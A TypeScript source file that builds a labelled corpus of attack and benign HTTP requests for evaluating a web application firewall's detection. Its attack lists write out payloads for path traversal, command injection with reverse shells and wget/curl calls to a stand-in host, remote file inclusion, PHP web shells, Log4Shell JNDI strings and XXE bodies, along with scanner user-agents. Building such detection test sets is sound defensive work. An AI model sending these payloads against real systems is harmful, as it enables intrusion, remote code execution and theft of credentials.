/**
 * The detection evaluation's labelled corpus (issue 18 item 5), written for this project:
 *
 * - Attacks: the SQL and HTML grammars' samples (tests/unit/waf/detect/grammar-corpus.ts), and the
 *   other families CRS covers, each written from its public technique description (path traversal,
 *   OS command injection, remote file inclusion, PHP, Java / expression-language injection, Node.js
 *   prototype pollution, XXE, response splitting, scanners). Each value is put where an attacker
 *   puts it, in turn: a query parameter, a form body, a JSON body, a cookie, the Referer.
 * - Benign: the grammars' benign values (prose, titles, addresses, prices, markup of a rich-text
 *   editor, SQL words used as words) in the same places, and requests shaped like a browser's and
 *   API clients' ordinary traffic: beacons, CSP reports, gRPC-web and protobuf, GraphQL, JSON:API,
 *   uploads, non-Latin text, tracking parameters, JWT cookies.
 *
 * Deterministic: the same requests every run. Nothing here was tuned on the traffic of the issue's
 * reference corpora.
 */
import { benignSamples, sqlAttacks, xssAttacks, type Sample } from '../../tests/unit/waf/detect/grammar-corpus.ts';

export type Place = 'query' | 'form' | 'json' | 'cookie' | 'referer' | 'path' | 'header' | 'shape';

export interface EvalRequest {
  attack: boolean;
  /** The attack family or benign kind (`sql-bare`, `traversal`, `sentence`, `beacon`...). */
  group: string;
  place: Place;
  method: 'GET' | 'POST';
  /** Path and query, percent-encoded as a browser sends them. */
  uri: string;
  headers: Record<string, string>;
  body?: string;
}

const BROWSER: Record<string, string> = {
  'user-agent':
    'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36',
  accept: 'text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8',
  'accept-language': 'en-GB,en;q=0.9',
  'accept-encoding': 'gzip, deflate, br',
};

const FORM = 'application/x-www-form-urlencoded';
const JSON_TYPE = 'application/json';

/** Places a value where an attacker (or a user) puts one. */
function placed(attack: boolean, group: string, place: Place, value: string, i: number): EvalRequest {
  const name = ['q', 'search', 'id', 'comment', 'name', 'redirect'][i % 6] ?? 'q';
  const base = { attack, group, place, headers: { ...BROWSER } };
  switch (place) {
    case 'query':
      return { ...base, method: 'GET', uri: `/products?${name}=${encodeURIComponent(value)}&page=2` };
    case 'form':
      return {
        ...base,
        method: 'POST',
        uri: '/account/profile',
        headers: { ...base.headers, 'content-type': FORM },
        body: `${name}=${encodeURIComponent(value)}&lang=en`,
      };
    case 'json':
      return {
        ...base,
        method: 'POST',
        uri: '/api/v1/items',
        headers: { ...base.headers, 'content-type': JSON_TYPE },
        body: JSON.stringify({ [name]: value, qty: 1 }),
      };
    case 'cookie':
      return {
        ...base,
        method: 'GET',
        uri: '/',
        headers: { ...base.headers, cookie: `pref=${encodeURIComponent(value)}` },
      };
    case 'referer':
      return {
        ...base,
        method: 'GET',
        uri: '/about',
        headers: { ...base.headers, referer: `https://www.example.net/results?${name}=${encodeURIComponent(value)}` },
      };
    default:
      return { ...base, method: 'GET', uri: `/products?${name}=${encodeURIComponent(value)}` };
  }
}

const ATTACK_PLACES: readonly Place[] = ['query', 'form', 'json', 'cookie', 'referer'];
const BENIGN_PLACES: readonly Place[] = ['query', 'form', 'json', 'query', 'form'];

/** Every k-th sample, so each family keeps its share. */
const everyKth = (list: readonly Sample[], k: number): Sample[] => list.filter((_, i) => i % k === 0);

/**
 * Families beyond SQL and HTML, each from its public technique description (OWASP testing guide,
 * CWE entries): what an attacker sends as a parameter value.
 */
const OTHER_ATTACKS: Readonly<Record<string, readonly string[]>> = {
  traversal: [
    '../../../../etc/passwd',
    '..%2f..%2f..%2fetc%2fpasswd',
    '....//....//....//etc/passwd',
    '..\\..\\..\\windows\\win.ini',
    '/var/www/../../etc/shadow',
    '../../../../proc/self/environ',
    'file:///etc/passwd',
    '%2e%2e/%2e%2e/%2e%2e/etc/hosts',
    '../../../../../boot.ini',
    '..%c0%af..%c0%afetc/passwd',
  ],
  'command-injection': [
    '127.0.0.1; cat /etc/passwd',
    'x | id',
    'a && whoami',
    '$(cat /etc/passwd)',
    '`uname -a`',
    '; wget http://203.0.113.5/x.sh -O /tmp/x; sh /tmp/x',
    'x || curl http://203.0.113.5/`whoami`',
    '; nc -e /bin/sh 203.0.113.5 4444',
    '| powershell -enc SQBFAFgA',
    '& ping -n 3 203.0.113.5 &',
    ';/bin/bash -i >& /dev/tcp/203.0.113.5/4444 0>&1',
    "'; python -c 'import os;os.system(\"id\")'",
  ],
  'file-inclusion': [
    'http://203.0.113.5/shell.txt?',
    'https://evil.example/backdoor.php',
    'ftp://203.0.113.5/payload.txt',
    'http://203.0.113.5/x.txt%00',
    '\\\\203.0.113.5\\share\\x.php',
  ],
  php: [
    "<?php system($_GET['c']); ?>",
    'php://filter/convert.base64-encode/resource=index.php',
    'php://input',
    'expect://id',
    'data://text/plain;base64,PD9waHAgcGhwaW5mbygpOyA/Pg==',
    'O:8:"stdClass":1:{s:4:"file";s:11:"/etc/passwd";}',
    '<?= `id` ?>',
    'assert(phpinfo())',
  ],
  java: [
    '${jndi:ldap://203.0.113.5:1389/a}',
    '${${lower:j}ndi:${lower:l}dap://203.0.113.5/x}',
    '%{(#_memberAccess["allowStaticMethodAccess"]=true).(@java.lang.Runtime@getRuntime().exec("id"))}',
    'java.lang.Runtime.getRuntime().exec("id")',
    '${T(java.lang.Runtime).getRuntime().exec("id")}',
    'class.module.classLoader.resources.context.parent.pipeline.first.pattern=x',
  ],
  nodejs: [
    '__proto__[isAdmin]=true',
    '{"__proto__":{"polluted":true}}',
    "require('child_process').exec('id')",
    'constructor.prototype.isAdmin=1',
    "process.mainModule.require('child_process').execSync('id')",
  ],
  'response-splitting': [
    'en%0d%0aSet-Cookie:%20session=evil',
    'x\r\nLocation: https://evil.example/',
    '/%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK',
  ],
  'template-injection': ['{{7*7}}{{config.items()}}', "{{''.__class__.__mro__[1].__subclasses__()}}", '#{7*7}'],
};

/** Attacks that are requests rather than values: XXE bodies, scanners, forbidden files. */
function attackShapes(): EvalRequest[] {
  const out: EvalRequest[] = [];
  const xml = (body: string): EvalRequest => ({
    attack: true,
    group: 'xxe',
    place: 'shape',
    method: 'POST',
    uri: '/api/import',
    headers: { ...BROWSER, 'content-type': 'application/xml' },
    body,
  });
  out.push(
    xml('<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'),
    xml('<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % p SYSTEM "http://203.0.113.5/e.dtd"> %p;]><r/>'),
    xml('<!DOCTYPE foo [<!ELEMENT foo ANY><!ENTITY xxe SYSTEM "expect://id">]><foo>&xxe;</foo>'),
  );
  for (const agent of [
    'sqlmap/1.7.2#stable (https://sqlmap.org)',
    'Nikto/2.5.0',
    'Mozilla/5.00 (Nikto/2.1.6)',
    'masscan/1.3',
    'Nuclei - Open-source project (github.com/projectdiscovery/nuclei)',
  ]) {
    out.push({
      attack: true,
      group: 'scanner',
      place: 'header',
      method: 'GET',
      uri: '/',
      headers: { ...BROWSER, 'user-agent': agent },
    });
  }
  for (const path of ['/.env', '/.git/config', '/wp-config.php.bak', '/.htpasswd', '/web.config', '/backup.sql']) {
    out.push({
      attack: true,
      group: 'restricted-file',
      place: 'path',
      method: 'GET',
      uri: path,
      headers: { ...BROWSER },
    });
  }
  return out;
}

/** Everyday browser and API traffic whose shape, not its values, is what a WAF may trip on. */
function benignShapes(): EvalRequest[] {
  const out: EvalRequest[] = [];
  const post = (group: string, uri: string, contentType: string, body: string): void => {
    out.push({
      attack: false,
      group,
      place: 'shape',
      method: 'POST',
      uri,
      headers: { ...BROWSER, 'content-type': contentType },
      body,
    });
  };
  for (let i = 0; i < 10; i++) {
    post(
      'beacon',
      '/collect',
      'text/plain;charset=UTF-8',
      JSON.stringify({ event: 'page_view', t: 1_700_000_000 + i, path: `/p/${i}` }),
    );
    post(
      'csp-report',
      '/csp-report',
      'application/csp-report',
      JSON.stringify({
        'csp-report': {
          'document-uri': `https://shop.example.com/p/${i}`,
          'violated-directive': 'script-src-elem',
          'blocked-uri': 'https://cdn.example.org/widget.js',
        },
      }),
    );
    post(
      'reports',
      '/reports',
      'application/reports+json',
      JSON.stringify([{ type: 'deprecation', age: i, url: '/' }]),
    );
    post(
      'grpc-web',
      '/shop.v1.Catalog/ListItems',
      'application/grpc-web+proto',
      `\u0000\u0000\u0000\u0000\u0007\n\u0005page${i}`,
    );
    post('protobuf', '/api/events', 'application/x-protobuf', `\n\u0004user\u0012\u0002${i}`);
    post(
      'graphql',
      '/graphql',
      'application/json',
      JSON.stringify({ query: `query { product(id: ${i}) { name price } }` }),
    );
    post(
      'json-api',
      '/api/orders',
      'application/vnd.api+json',
      JSON.stringify({ data: { type: 'orders', attributes: { qty: i } } }),
    );
    post('json-patch', '/api/profile', 'application/merge-patch+json', JSON.stringify({ nickname: `user${i}` }));
  }
  const text = [
    '北京 酒店 预订',
    '東京 ラーメン おすすめ',
    'Москва погода завтра',
    'café crème brûlée recette',
    '서울 맛집 추천',
    'عروض السفر',
    'ゲーム ランキング 2024',
    '深圳 天气 预报',
    'Ελλάδα διακοπές',
    'ट्रेन टिकट बुकिंग',
  ];
  text.forEach((t, i) => {
    out.push({
      attack: false,
      group: 'non-latin',
      place: 'query',
      method: 'GET',
      uri: `/search?q=${encodeURIComponent(t)}&p=${i}`,
      headers: { ...BROWSER },
    });
  });
  for (let i = 0; i < 10; i++) {
    out.push({
      attack: false,
      group: 'tracking',
      place: 'query',
      method: 'GET',
      uri: `/landing?utm_source=newsletter&utm_medium=email&utm_campaign=spring_sale_${i}&gclid=Cj0KCQiA${i}x&fbclid=IwAR${i}`,
      headers: { ...BROWSER },
    });
    out.push({
      attack: false,
      group: 'jwt-cookie',
      place: 'cookie',
      method: 'GET',
      uri: '/account',
      headers: {
        ...BROWSER,
        cookie: `session=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJ1c2VyJHtpfSIsImlhdCI6MTcwMDAwMDAwMH0.${'a'.repeat(20 + i)}; _ga=GA1.2.${i}`,
      },
    });
    const boundary = `----WebKitFormBoundary${i}abc`;
    post(
      'upload',
      '/account/avatar',
      `multipart/form-data; boundary=${boundary}`,
      `--${boundary}\r\nContent-Disposition: form-data; name="avatar"; filename="me-${i}.png"\r\nContent-Type: image/png\r\n\r\n\u0089PNG\r\n\u001a\n\u0000\u0000\u0000\rIHDR\r\n--${boundary}--\r\n`,
    );
  }
  return out;
}

export interface Corpus {
  attacks: EvalRequest[];
  benign: EvalRequest[];
}

export function buildCorpus(): Corpus {
  const attacks: EvalRequest[] = [];
  const benign: EvalRequest[] = [];
  let i = 0;
  const values = [...everyKth(sqlAttacks(), 3), ...everyKth(xssAttacks(), 3)];
  for (const [family, list] of Object.entries(OTHER_ATTACKS)) for (const value of list) values.push({ family, value });
  for (const s of values) {
    attacks.push(placed(true, s.family, ATTACK_PLACES[i % ATTACK_PLACES.length] ?? 'query', s.value, i));
    i++;
  }
  attacks.push(...attackShapes());
  i = 0;
  for (const s of everyKth(benignSamples(), 2)) {
    benign.push(placed(false, s.family, BENIGN_PLACES[i % BENIGN_PLACES.length] ?? 'query', s.value, i));
    i++;
  }
  benign.push(...benignShapes());
  return { attacks, benign };
}
